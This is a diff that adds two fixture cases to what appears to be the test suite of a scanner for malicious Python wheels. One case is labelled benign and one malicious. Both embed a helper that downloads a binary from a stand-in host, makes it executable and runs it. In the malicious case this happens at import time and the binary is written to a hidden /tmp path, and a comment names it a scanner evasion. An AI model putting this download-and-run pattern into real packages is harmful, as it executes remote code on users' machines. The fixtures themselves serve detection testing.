@@ -104,6 +104,39 @@ CASES = [
                                  "        self.values = read('defaults.json')\n\n\n"
                                  "SETTINGS = Settings()\n"),
     }, "benign", kind="wheel"),
+    Case("a class defined (never made) at import, in a module that names no capability, whose "
+         "constructor starts a helper binary that a sibling downloads (gradio's share tunnel)",
+         "tunnelhelper", {
+        "tunnelhelper/__init__.py": "from .share import Tunnel  # noqa\n",
+        "tunnelhelper/_binary.py": (
+            "import os\nimport stat\nimport subprocess\nimport urllib.request\n\n\n"
+            "def start(dest):\n"
+            "    urllib.request.urlretrieve('https://cdn.example.invalid/frpc', dest)\n"
+            "    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)\n"
+            "    return subprocess.Popen([dest, 'http'])\n"),
+        "tunnelhelper/share.py": ("from ._binary import start\n\n\ndef export(name):\n"
+                                  "    return lambda cls: cls\n\n\n"
+                                  "@export('tunnelhelper.Tunnel')\n"
+                                  "class Tunnel(object):\n"
+                                  "    def __init__(self, dest='/tmp/frpc'):\n"
+                                  "        self.proc = start(dest)\n"),
+    }, "benign", kind="wheel"),
+    # The cheapest evasion of not reading a class header as a call: make it on the next line.
+    Case("a class defined and made at import in a module that names no capability; its "
+         "constructor runs a sibling's download-and-run", "tunnelnow", {
+        "tunnelnow/__init__.py": "from .share import TUNNEL  # noqa\n",
+        "tunnelnow/_binary.py": (
+            "import os\nimport stat\nimport subprocess\nimport urllib.request\n\n\n"
+            "def start(dest):\n"
+            "    urllib.request.urlretrieve('http://203.0.113.9/frpc', dest)\n"
+            "    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)\n"
+            "    return subprocess.Popen([dest, 'http'])\n"),
+        "tunnelnow/share.py": ("from ._binary import start\n\n\n"
+                               "class Tunnel(object):\n"
+                               "    def __init__(self, dest='/tmp/.frpc'):\n"
+                               "        self.proc = start(dest)\n\n\n"
+                               "TUNNEL = Tunnel()\n"),
+    }, "malicious", ("PV301",), kind="wheel"),
     Case("a registry metaclass imported from a sibling, named on a header spread over lines",
          "metaregistry", {
         "metaregistry/__init__.py": "from .models import Model  # noqa\n",
